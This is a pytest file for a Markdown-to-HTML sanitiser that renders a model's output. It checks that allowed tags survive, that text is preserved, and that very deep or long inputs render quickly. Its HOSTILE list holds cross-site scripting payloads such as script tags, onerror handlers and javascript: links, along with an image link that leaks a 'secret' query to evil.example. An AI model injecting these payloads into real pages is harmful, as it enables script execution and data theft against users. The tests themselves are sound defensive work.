"""A model's Markdown: what is shown can do nothing, and says all that was written."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analyst_magic.cleaning.markdown import MAX_MARKDOWN, markdown, plain
from analyst_magic.cleaning.text import clean

ALLOWED = {
    "p", "br", "hr", "strong", "em", "code", "pre", "ul", "ol", "li", "blockquote",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class Page(HTMLParser):
    """The tags, attributes and words of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.words = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs
        self.words += "".join(f" {value} " for name, value in attrs if name == "value")

    def handle_data(self, data: str) -> None:
        self.words += data


def harmless(text: str) -> Page:
    """The page that a text becomes, which holds nothing that a browser would run or load."""
    page = Page(markdown(text))
    assert set(page.tags) <= ALLOWED
    assert all(name in {"start", "value"} and (value or "").isdigit() for name, value in page.attributes)
    return page


def letters(text: str) -> str:
    return "".join(filter(str.isalnum, text))


@pytest.mark.parametrize(
    ("text", "page"),
    [
        ("**ORD** has the *most* flights: `17,283`",
         "<p><strong>ORD</strong> has the <em>most</em> flights: <code>17,283</code></p>"),
        ("One.\n\nTwo,\nand three.", "<p>One.</p>\n<p>Two,<br>\nand three.</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("## Why\nAs *rain* fell.", "<p><strong>Why</strong></p>\n<p>As <em>rain</em> fell.</p>"),
        ("> they said so", "<blockquote>\n<p>they said so</p>\n</blockquote>"),
        ("```python\nx < 1\n```", "<pre><code>x &lt; 1\n</code></pre>"),
        ("_On average_ it was late.", "<p><em>On average</em> it was late.</p>"),
        ("平均**12分**です", "<p>平均<strong>12分</strong>です</p>"),
        ("**12.6**min late", "<p><strong>12.6</strong>min late</p>"),
        ("    indented by the code around it", "<p>indented by the code around it</p>"),
    ],
)  # fmt: skip
def test_prose_is_rendered(text: str, page: str) -> None:
    assert markdown(text) == page


def test_a_table_is_a_table() -> None:
    page = harmless("| carrier | n |\n|:--|--:|\n| UA | 58,665 |")
    assert page.tags[0] == "table"
    assert page.tags.count("td") == 2


@pytest.mark.parametrize(
    "text",
    [
        "a_b_c", "dep_delay and arr_delay", "_id and _name", "__init__", "_", "5 * 3 * 2", "5*3*2", "x**2 + y**2",
        "2 ** 3", "p* = 3, q* = 4", "*.csv and *.parquet", "$5 and $10", "$x_1$ is $5", "<A", "a<b>c", "A & B &amp; C",
        "~5 and ~~6~~", "[a] and [b][c]", "#1 is Delta", "1.5", "12.", "-5", "+3 %", "100%", "> 5 minutes",
        ">10 and\n> 3", "f(*args, **kw)", "a|b", "`", "-", "3)", "C:\\Data", "!", "![x]", "Line\nbreak", "“q”", "...",
    ],
)  # fmt: skip
def test_a_sign_in_a_number_or_a_name_stays(text: str) -> None:
    assert harmless(text).words == text
    assert plain(text) == text


def test_the_number_at_the_start_of_a_line_is_not_lost() -> None:
    assert "2013" in harmless("2013. A good year.").words
    assert "7" in harmless("3. this\n7. that").words
    assert plain("3. this\n7. that") == "3. this\n7. that"


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[the source](http://a.example/x?y=1)", "the source (http://a.example/x?y=1)"),
        ('[the source](http://a.example "its title")', "the source (http://a.example, its title)"),
        ("[http://a.example](http://a.example)", "http://a.example"),
        ("<http://a.example>", "<http://a.example>"),
        ("http://a.example", "http://a.example"),
        ("![a picture](http://a.example/?secret)", "!a picture (http://a.example/?secret)"),
        ("[x]\n\n[x]: http://a.example", "[x]\n\n[x]: http://a.example"),
    ],
)
def test_a_link_is_text_with_its_address(text: str, said: str) -> None:
    page = harmless(text)
    assert page.words.split() == said.split()
    assert plain(text) == said


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "![x](x \"onerror=alert(1)\")",
    "[x](javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.example'</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "`<script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```<img src=x onerror=alert(1)>\nx\n```",
    "|<img src=x onerror=alert(1)>|\n|-|\n|<script>|",
    "[x]: javascript:alert(1)\n\n[x]",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <img src=x onerror=alert(1)>",
    "1. <img src=x onerror=alert(1)>",
    "\\<script>alert(1)\\</script>",
    "$\\href{javascript:alert(1)}{x}$",
    "\u202e<script>\u2066alert(1)\x1b]8;;http://evil.example\x07",
    "</pre></p></div><script>alert(1)</script>",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_text(text: str) -> None:
    assert letters(harmless(text).words) in {letters(clean(text)), letters(clean(text).replace("```html", ""))}
    assert not set(plain(text)) & set("\x1b\x07\u202e\u2066")


DEEP = {
    "quotes": ">" * 1000 + " a",
    "lists": "\n".join(" " * depth + "- a" for depth in range(150)),
    "brackets": "[" * MAX_MARKDOWN,
    "links": "[a](" * (MAX_MARKDOWN // 4),
    "stars": "*a **b " * (MAX_MARKDOWN // 7),
    "mixed emphasis": "*_" * (MAX_MARKDOWN // 2),
    "backticks": "".join("`" * size + " " for size in range(190)),
    "cells": "|a" * 50 + "\n" + "|-" * 50 + ("\n" + "|1" * 50) * 150,
    "tags": "<" * MAX_MARKDOWN,
    "a megabyte": "**word** " * 110_000,
}


@pytest.mark.parametrize("text", DEEP.values(), ids=DEEP)
def test_a_text_that_is_long_or_deep_takes_little_time_and_keeps_its_words(text: str) -> None:
    begun = time.process_time()
    page = harmless(text)
    assert time.process_time() - begun < 5
    assert letters(page.words) == letters(text)
    assert letters(plain(text)) == letters(text)


PIECES = [
    *"*_`#>-+|[]()!<>\\&$~ \n", "**", "__", "```", "\n\n", "    ", "1. ", "2013. ", "- ", "> ", "# ", "|-|-|", "a_b",
    "5*3", "word", "<b>", "](http://a.example)", "![", "é", "平均", "&amp;", "http://a.example", "\n[x]: http://b.example\n",
]  # fmt: skip


@settings(max_examples=500)
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_no_letter_is_lost_whatever_the_signs_around_it(text: str) -> None:
    page, said = harmless(text), plain(text)
    if "```" not in text and "](http" not in text:  # a code's language, and an address that is the text, are not shown
        assert letters(page.words) == letters(said) == letters(text)


@given(st.text(max_size=300) | st.lists(st.sampled_from([*PIECES, *HOSTILE]), max_size=12).map("".join))
def test_nothing_that_runs_or_loads_comes_out_of_any_text(text: str) -> None:
    harmless(text)
    assert markdown(text) == markdown(text)
    assert clean(plain(text)) == plain(text)
